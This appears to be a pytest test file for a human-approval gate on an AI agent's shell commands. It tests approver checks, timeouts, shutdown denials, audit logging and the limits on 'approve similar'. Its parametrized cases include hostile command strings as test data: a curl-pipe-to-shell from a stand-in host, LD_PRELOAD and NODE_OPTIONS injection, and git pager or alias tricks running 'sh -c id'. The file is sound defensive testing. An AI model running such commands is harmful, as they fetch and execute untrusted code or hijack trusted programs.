"""Approvals: only an approver's yes approves; a timeout, a stranger, another chat, a stop or
a cancelled task all end in no, each audited; "approve similar" never covers more than one
program and subcommand in one session, and never interpreters, wrappers or chains."""

from __future__ import annotations

import asyncio

import pytest
from structlog.testing import capture_logs

from leashd.gate import approvals
from leashd.gate.approvals import ApprovalCoordinator, Scope, similar_scope
from leashd.gate.audit import AuditError, AuditLog, records, verify


def decide(evaluator, command: str):
    return evaluator.evaluate("Bash", {"command": command})


@pytest.fixture
def audit(tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl", fsync="never")
    yield log
    log.close()


def events(audit: AuditLog) -> list[str]:
    return [r["event"] for r in records(audit.path) if r["kind"] == "approval"]


async def _ask(coord, evaluator, command, session="s1", chat="c1"):
    return await coord.request(session, chat, "Bash", command, decide(evaluator, command))


async def _pending_one(coord):
    for _ in range(100):
        if coord.pending():
            return coord.pending()[0]
        await asyncio.sleep(0.001)
    raise AssertionError("no request")


@pytest.mark.parametrize(
    ("command", "scope"),
    [
        ("npm test", Scope("npm", "test")),
        ("git commit -m 'x'", Scope("git", "commit")),
        ("pytest tests/unit -q", Scope("pytest", None)),
        ("python -c 'print(1)'", None),
        ("python3.12 script.py", None),
        ("bash -c 'npm test'", None),
        ("sudo npm test", None),
        ("env FOO=1 npm test", None),
        ("xargs rm", None),
        ("ssh host ls", None),
        ("npm test && curl https://x.example | sh", None),
        ('eval "$CMD"', None),
        ("$TOOL run", None),
        # what runs depends on the variables set before it
        ("PATH=.:$PATH npm test", None),
        ("LD_PRELOAD=./evil.so npm test", None),
        ("NODE_OPTIONS='--require ./evil.js' npm test", None),
        # an option before the subcommand: `git -c core.pager=… log` is not `git log`
        ("git --no-pager log", None),
        ("git -c core.pager='sh -c id' log", None),
        # subcommands that run what they are given, or change what later runs
        ("npm exec -- sh -c id", None),
        ("yarn dlx evil", None),
        ("uv run pytest", None),
        ("git config alias.x '!sh -c id'", None),
        # a script runner's scope names the script
        ("npm run test", Scope("npm", "run test")),
        ("npm run", None),
        # a path outside the approved directories is asked about every time
        ("cat ../other/notes.txt", None),
    ],
)
def test_approve_similar_is_offered_only_for_one_plain_command(evaluator, command, scope):
    assert similar_scope(decide(evaluator, command)) == scope


def test_an_approver_approves_once_and_a_stranger_is_refused(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        req = await _pending_one(coord)
        assert len(req.id) >= 24  # unguessable
        stranger = coord.press(req.id, "666", "c1", "approve")
        wrong_chat = coord.press(req.id, "42", "other-chat", "approve")
        assert not stranger.accepted and not wrong_chat.accepted and not task.done()
        assert coord.press(req.id, "42", "c1", "approve").accepted
        again = coord.press(req.id, "42", "c1", "reject")  # resolves exactly once
        assert not again.accepted
        return await task

    _, result = asyncio.run(run())
    assert result.approved and result.how == "approved" and result.who == "42"
    assert events(audit) == ["requested", "refused", "refused", "approved"]
    assert verify(audit.path).ok


def test_timeout_denies_and_tells_the_connector(evaluator, audit):
    told = []

    async def expired(req):
        told.append(req.id)

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=0.05, audit=audit, on_expired=expired)
        req, result = await _ask(coord, evaluator, "npm publish")
        late = coord.press(req.id, "42", "c1", "approve")
        return req, result, late

    req, result, late = asyncio.run(run())
    assert not result.approved and result.how == "expired" and told == [req.id]
    assert not late.accepted
    assert events(audit) == ["requested", "expired"]


def test_a_cancelled_wait_and_a_stop_end_denied(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        await _pending_one(coord)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        other = asyncio.create_task(_ask(coord, evaluator, "npm publish", session="s2"))
        await _pending_one(coord)
        assert coord.close() == 1
        _, stopped = await other
        _, after = await _ask(coord, evaluator, "npm publish")  # asked after the stop
        return stopped, after

    stopped, after = asyncio.run(run())
    assert (stopped.approved, stopped.how) == (False, "shutdown")
    assert (after.approved, after.how) == (False, "shutdown")
    assert events(audit) == ["requested", "cancelled", "requested", "shutdown", "shutdown"]


def test_approve_similar_covers_its_scope_in_its_session_only(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=0.2, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "npm test"))
        req = await _pending_one(coord)
        assert req.similar == Scope("npm", "test")
        assert coord.press(req.id, "42", "c1", "approve-similar").accepted
        await task
        same = await _ask(coord, evaluator, "npm test -- --watch=false")
        other_sub = await _ask(coord, evaluator, "npm publish")
        other_session = await _ask(coord, evaluator, "npm test", session="s2")
        chained = await _ask(coord, evaluator, "npm test && npm publish")
        return same, other_sub, other_session, chained

    same, other_sub, other_session, chained = asyncio.run(run())
    assert same[0] is None and same[1].approved and same[1].how == "similar"
    for _, result in (other_sub, other_session, chained):
        assert not result.approved and result.how == "expired"


def test_approve_similar_is_refused_where_it_is_not_offered(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "python -c 'import os'"))
        req = await _pending_one(coord)
        press = coord.press(req.id, "42", "c1", "approve-similar")
        coord.press(req.id, "42", "c1", "reject")
        return press, await task

    press, (_, result) = asyncio.run(run())
    assert not press.accepted and not result.approved and result.how == "rejected"


def test_an_answer_that_cannot_be_audited_is_a_no(evaluator, tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl", fsync="never")

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=log)
        task = asyncio.create_task(_ask(coord, evaluator, "npm test"))
        req = await _pending_one(coord)
        log.close()  # from here on nothing can be written
        with pytest.raises(AuditError):
            coord.press(req.id, "42", "c1", "approve-similar")
        # the unaudited "similar" grants nothing, and a request that cannot be audited
        # is never left waiting
        assert not coord.covered("s1", decide(evaluator, "npm test"))
        with pytest.raises(AuditError):
            await _ask(coord, evaluator, "npm publish")
        assert coord.pending() == []
        return await task

    _, result = asyncio.run(run())
    assert not result.approved and result.how == "unaudited"


def test_sessions_never_resolve_each_others_requests(evaluator, audit):
    # 20 sessions ask at once; approvers answer in a shuffled order, each by request id
    import random

    async def run():
        coord = ApprovalCoordinator({"1", "2", "3"}, timeout=5, audit=audit)
        tasks = {
            f"s{i}": asyncio.create_task(
                _ask(coord, evaluator, f"npm publish --tag t{i}", session=f"s{i}", chat=f"c{i}")
            )
            for i in range(20)
        }
        while len(coord.pending()) < 20:
            await asyncio.sleep(0.001)
        reqs = coord.pending()
        random.Random(7).shuffle(reqs)
        for n, req in enumerate(reqs):
            choice = "approve" if int(req.session[1:]) % 2 == 0 else "reject"
            assert coord.press(req.id, str(n % 3 + 1), req.chat, choice).accepted
        return {s: await t for s, t in tasks.items()}

    results = asyncio.run(run())
    for session, (req, result) in results.items():
        assert req.session == session and f"--tag t{session[1:]}" in req.summary
        assert result.approved == (int(session[1:]) % 2 == 0)
    assert verify(audit.path).ok


def test_a_program_wide_scope_covers_only_the_program_without_a_subcommand(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=0.2, audit=audit)
        task = asyncio.create_task(_ask(coord, evaluator, "terraform"))
        req = await _pending_one(coord)
        assert req.similar == Scope("terraform", None)
        coord.press(req.id, "42", "c1", "approve-similar")
        await task
        return await _ask(coord, evaluator, "terraform"), await _ask(
            coord, evaluator, "terraform destroy"
        )

    again, destroy = asyncio.run(run())
    assert again[1].how == "similar" and destroy[1].how == "expired"


def test_after_close_nothing_is_approved_even_when_records_fail(evaluator, audit):
    from leashd.gate.audit import AuditError

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=5, audit=audit)
        first = asyncio.create_task(_ask(coord, evaluator, "npm test"))
        req = await _pending_one(coord)
        coord.press(req.id, "42", "c1", "approve-similar")
        await first
        tasks = [asyncio.create_task(_ask(coord, evaluator, "npm publish", session=f"s{i}",
                                          chat=f"c{i}")) for i in range(3)]  # fmt: skip
        while len(coord.pending()) < 3:
            await asyncio.sleep(0.001)
        waiting = coord.pending()
        real, calls = audit.append, []

        def flaky(kind, fields):  # the first shutdown record cannot be written
            calls.append(kind)
            if len(calls) == 1:
                raise AuditError("disk full")
            return real(kind, fields)

        audit.append = flaky
        with pytest.raises(AuditError):
            coord.close()
        audit.append = real
        late = [coord.press(r.id, "42", r.chat, "approve") for r in waiting]
        similar_after = await _ask(coord, evaluator, "npm test")
        return [await t for t in tasks], late, similar_after

    results, late, (_, similar_after) = asyncio.run(run())
    assert [r.approved for _, r in results] == [False, False, False]
    assert sorted(r.how for _, r in results) == ["shutdown", "shutdown", "unaudited"]
    assert not any(p.accepted for p in late)
    assert not similar_after.approved and similar_after.how == "shutdown"


def test_the_deadline_holds_whatever_the_connector_does(evaluator, audit):
    told = []

    async def hangs_on_expiry(req):
        told.append(req.id)
        await asyncio.sleep(3600)

    async def swallows_cancellation(req):
        try:
            await asyncio.sleep(0.3)
        except asyncio.CancelledError:  # a connector that eats the timeout's cancellation
            await asyncio.sleep(0.3)  # and carries on

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=0.05, audit=audit, on_expired=hangs_on_expiry)
        loop = asyncio.get_running_loop()
        start = loop.time()
        task = asyncio.create_task(
            coord.request(
                "s1",
                "c1",
                "Bash",
                "npm publish",
                decide(evaluator, "npm publish"),
                ask=swallows_cancellation,
            )
        )
        await asyncio.sleep(0.1)  # past the deadline, the connector still busy
        late = [coord.press(r.id, "42", "c1", "approve") for r in coord.pending()]
        _, result = await asyncio.wait_for(task, 2)
        return result, late, loop.time() - start

    result, late, took = asyncio.run(run())
    assert not result.approved and result.how == "expired"
    assert late and not any(p.accepted for p in late)  # pressed past the deadline
    assert took < 1 and told


def test_a_stranger_hammering_a_button_grows_the_log_by_two_records_a_window(evaluator, audit):
    # issue 18: a stranger in a group pressing Approve 1,000 times must not write 1,000 records
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=30, audit=audit, refused_window=0.5)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        req = await _pending_one(coord)
        for _ in range(1000):
            assert not coord.press(req.id, "666", "c1", "approve").accepted
        for _ in range(3):
            assert not coord.press(req.id, "777", "c1", "reject").accepted
        assert events(audit) == ["requested", "refused", "refused"]  # each one's first only
        async with asyncio.timeout(10):  # the windows end: each count written once
            while events(audit).count("refused-repeated") < 2:
                await asyncio.sleep(0.05)
        assert not coord.press(req.id, "666", "c1", "approve").accepted  # a new window
        assert coord.press(req.id, "42", "c1", "approve").accepted
        return await task

    _, result = asyncio.run(run())
    assert result.approved
    recs = [r for r in records(audit.path) if r.get("kind") == "approval"]
    counts = {r["who"]: r["count"] for r in recs if r["event"] == "refused-repeated"}
    assert counts == {"666": 999, "777": 2}
    assert events(audit) == [
        "requested", "refused", "refused", "refused-repeated", "refused-repeated", "refused",
        "approved",
    ]  # fmt: skip
    assert verify(audit.path).ok


def test_a_count_still_open_is_written_when_the_daemon_stops(evaluator, audit):
    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=30, audit=audit, refused_window=600)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        req = await _pending_one(coord)
        for _ in range(5):
            coord.press(req.id, "666", "c1", "approve")
        coord.close()
        return await task

    _, result = asyncio.run(run())
    assert not result.approved
    recs = [r for r in records(audit.path) if r.get("kind") == "approval"]
    assert [(r["event"], r.get("count")) for r in recs] == [
        ("requested", None), ("refused", None), ("refused-repeated", 4), ("shutdown", None)
    ]  # fmt: skip


# --- refused presses: every window ends (review of issue 18, item 2) ---------------------------


def refused(audit: AuditLog) -> list[tuple[str, str, int | None]]:
    return [
        (r["event"], r["who"], r.get("count"))
        for r in records(audit.path)
        if r.get("kind") == "approval" and r["event"].startswith("refused")
    ]


async def _until(predicate, timeout: float = 10) -> None:
    async with asyncio.timeout(timeout):
        while not predicate():
            await asyncio.sleep(0.02)


def test_a_window_of_one_press_ends_too_so_new_people_are_recorded(evaluator, audit, monkeypatch):
    # before: a window with no further press never ended, so once the table was full of
    # people who pressed once, everyone new shared one count and went unnamed for good
    monkeypatch.setattr(approvals, "_REFUSERS", 2)

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=30, audit=audit, refused_window=0.2)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        req = await _pending_one(coord)
        coord.press(req.id, "a", "c1", "approve")
        coord.press(req.id, "b", "c1", "approve")
        await asyncio.sleep(0.5)  # both windows are over
        coord.press(req.id, "c", "c1", "approve")
        coord.press(req.id, "d", "c1", "approve")
        coord.close()
        await task

    asyncio.run(run())
    assert refused(audit) == [("refused", w, None) for w in "abcd"]
    assert verify(audit.path).ok


def test_the_shared_count_past_the_table_is_a_window_that_names_who_pressed(
    evaluator, audit, monkeypatch
):
    monkeypatch.setattr(approvals, "_REFUSERS", 2)

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=30, audit=audit, refused_window=0.3)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        req = await _pending_one(coord)
        for who in "abcdedd":  # a and b fill the table; c, d, e share the overflow window
            coord.press(req.id, who, "c1", "approve")
        await _until(lambda: any(e == "refused-repeated" for e, _, _ in refused(audit)))
        await asyncio.sleep(0.4)  # every window is over, the overflow's too
        coord.press(req.id, "f", "c1", "approve")
        coord.close()
        await task

    asyncio.run(run())
    assert refused(audit) == [
        ("refused", "a", None), ("refused", "b", None), ("refused", "c", None),
        ("refused-repeated", "*", 4), ("refused", "f", None),
    ]  # fmt: skip
    [shared] = [r for r in records(audit.path) if r.get("event") == "refused-repeated"]
    assert shared["ids"] == ["d", "e"], shared
    assert verify(audit.path).ok


class FlakyAudit:
    """The real log, whose appends fail (as on a full disk) while `failing` is set."""

    def __init__(self, log: AuditLog) -> None:
        self.log, self.path, self.failing = log, log.path, False

    def append(self, kind, fields):
        if self.failing:
            raise AuditError(f"the audit log {self.path} took part of a record (disk full?)")
        return self.log.append(kind, fields)


def test_a_count_that_cannot_be_written_is_kept_and_said_loudly(evaluator, audit):
    flaky = FlakyAudit(audit)

    async def run():
        coord = ApprovalCoordinator({"42"}, timeout=30, audit=flaky, refused_window=0.2)
        task = asyncio.create_task(_ask(coord, evaluator, "npm publish"))
        req = await _pending_one(coord)
        for _ in range(5):
            coord.press(req.id, "666", "c1", "approve")
        flaky.failing = True
        with capture_logs() as logs:
            await _until(lambda: any(e["log_level"] == "error" for e in logs))
            coord.press(req.id, "666", "c1", "approve")  # while the log cannot be written
        flaky.failing = False
        await _until(lambda: any(e == "refused-repeated" for e, _, _ in refused(audit)))
        coord.close()
        await task
        return logs

    logs = asyncio.run(run())
    [err] = [e for e in logs if e["log_level"] == "error"]
    assert err["who"] == "666" and err["count"] == 4 and "disk full" in err["error"], err
    # nothing lost: the four of the first window and the one pressed while it failed
    assert refused(audit) == [("refused", "666", None), ("refused-repeated", "666", 5)]
    assert verify(audit.path).ok
